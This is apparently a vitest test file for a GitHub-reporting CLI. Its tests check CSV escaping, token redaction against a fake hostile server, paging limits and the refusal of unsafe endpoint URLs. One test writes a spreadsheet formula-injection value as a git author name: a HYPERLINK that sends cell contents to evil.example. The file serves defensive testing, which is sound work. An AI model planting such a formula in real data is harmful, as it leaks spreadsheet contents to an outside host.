import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { loadFixtureWorld, startHostileGitHub, type HostileGitHub, type HostileMode } from "@quantecon/fake-github";
import { afterEach, describe, expect, it } from "vitest";
import { run, tempDir } from "./cli-helpers.js";

const DEMO = fileURLToPath(new URL("../examples/quantecon/demo-2026-05.json", import.meta.url));
const demo = (): Record<string, unknown> & { commits: Record<string, unknown>[]; pullRequests: Record<string, unknown>[] } => JSON.parse(readFileSync(DEMO, "utf8"));

let cleanup: (() => void)[] = [];
afterEach(() => {
  for (const c of cleanup) c();
  cleanup = [];
});
function scratch(): string {
  const t = tempDir("qe-hostile-");
  cleanup.push(t.remove);
  return t.dir;
}
function write(dir: string, name: string, data: unknown): string {
  const path = join(dir, name);
  writeFileSync(path, typeof data === "string" ? data : JSON.stringify(data));
  return path;
}

describe("hostile dataset text in reports", () => {
  it("a git author named like a spreadsheet formula stays text in the CSV", async () => {
    const dir = scratch();
    const data = demo();
    data.commits[0]!["author"] = { login: null, name: '=HYPERLINK("https://evil.example/?"&A2,"x")', email: "a@b" };
    const r = await run(["monthly", "--input", write(dir, "d.json", data), "--format", "csv"]);
    expect(r.code).toBe(0);
    const cells = r.stdout.split("\r\n").flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    expect(cells.some((c) => c.includes("HYPERLINK"))).toBe(true);
    for (const cell of cells) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+@\t\r]/);
  });
});

describe("qe-report fetch against hostile servers", () => {
  const TOKEN = "ghp_CANARY_clihostile_00112233445566778899";
  let server: HostileGitHub | undefined;
  afterEach(async () => {
    await server?.close();
    server = undefined;
  });
  const fetchFrom = async (mode: HostileMode, extra: string[] = [], env: Record<string, string> = {}) => {
    server = await startHostileGitHub(mode, loadFixtureWorld(), { token: TOKEN });
    const dir = scratch();
    const r = await run(["fetch", "--org", "QuantEcon", "--month", "2026-05", "--out", join(dir, "d.json"), ...extra], { env: { GITHUB_TOKEN: TOKEN, GITHUB_GRAPHQL_URL: server.url, ...env } });
    const written = (() => {
      try {
        return readFileSync(join(dir, "d.json"), "utf8");
      } catch {
        return "";
      }
    })();
    return { ...r, written, requests: server.requests };
  };

  it("a server echoing the token in every error field: no line, warning or dataset field holds it", async () => {
    const r = await fetchFrom("echo", ["--allow-partial"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/fetch: warning: incomplete: /);
    expect(r.written).toContain("[REDACTED]");
    for (const text of [r.stdout, r.stderr, r.written]) expect(text).not.toContain(TOKEN);
  });

  it("without --allow-partial the missing lines are redacted too, exit 1", async () => {
    const r = await fetchFrom("echo");
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/fetch: missing: /);
    expect(r.stderr).not.toContain(TOKEN);
  });

  it("a looping server: under 100 requests, one line naming the query, exit 1", async () => {
    const r = await fetchFrom("loop-cursor");
    expect(r.requests).toBeLessThan(100);
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split("\n").at(-1)).toMatch(/^qe-report: paging of the ListRepositories query for the repositories of QuantEcon stopped: /);
  });

  it("credentials in GITHUB_GRAPHQL_URL never print; the URL is refused, exit 2", async () => {
    const r = await run(["fetch", "--org", "QuantEcon", "--month", "2026-05", "--out", join(scratch(), "d.json")], {
      env: { GITHUB_TOKEN: TOKEN, GITHUB_GRAPHQL_URL: "https://robot:hunter2-secret@ghe.example/api/graphql" },
    });
    expect(r.code).toBe(2);
    expect(r.stderr).not.toMatch(/hunter2-secret|robot:/);
    expect(r.stderr).toContain("https://ghe.example/api/graphql");
  });

  it("an invalid endpoint URL is exit 2 at once, not 25 s of retries", async () => {
    const started = Date.now();
    const r = await run(["fetch", "--org", "QuantEcon", "--month", "2026-05", "--out", join(scratch(), "d.json")], { env: { GITHUB_TOKEN: TOKEN, GITHUB_GRAPHQL_URL: "htp:/nowhere" } });
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split("\n")).toHaveLength(1);
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it("plain http off this machine is refused without --insecure, and warned about with it", async () => {
    const env = { GITHUB_TOKEN: TOKEN, GITHUB_GRAPHQL_URL: "http://ghe.invalid/api/graphql" };
    const refused = await run(["fetch", "--org", "QuantEcon", "--month", "2026-05", "--out", join(scratch(), "d.json")], { env });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/plain http on another machine \(ghe\.invalid\).*--insecure/);
    const report = await run(["monthly", "--org", "QuantEcon", "--month", "2026-05"], { env });
    expect(report.code).toBe(2);
    expect(report.stderr).toMatch(/unencrypted/);
  });
});
